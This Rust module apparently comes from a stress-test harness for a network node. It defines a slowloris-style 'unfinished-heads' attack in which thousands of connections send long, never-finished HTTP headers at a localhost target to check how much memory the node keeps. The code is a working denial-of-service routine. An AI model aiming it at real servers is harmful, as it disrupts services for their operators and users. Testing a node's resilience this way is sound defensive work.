//! Heads of requests that are long and do not end: 180 MB if the node kept them.

use std::thread;
use std::time::Duration;

use super::{Attack, repeat};

pub const ATTACK: Attack = Attack {
    name: "unfinished-heads",
    about: "6,000 connections of 200 addresses send 30 kB of a head each, and never its end",
    start: |target| {
        repeat(target, 4, |target, number| {
            let head = format!("GET / HTTP/1.1\r\nhost: localhost\r\n{}", long_headers());
            let mut sockets = Vec::new();
            for count in 0..1_500 {
                let mut socket = target.dial(number * 1_500 + count)?;
                let _refused = socket.write(head.as_bytes());
                sockets.push(socket);
            }
            thread::sleep(Duration::from_secs(8));
            Ok(())
        })
    },
};

fn long_headers() -> String {
    (0..10).map(|number| format!("x-{number}: {}\r\n", "a".repeat(3_000))).collect()
}
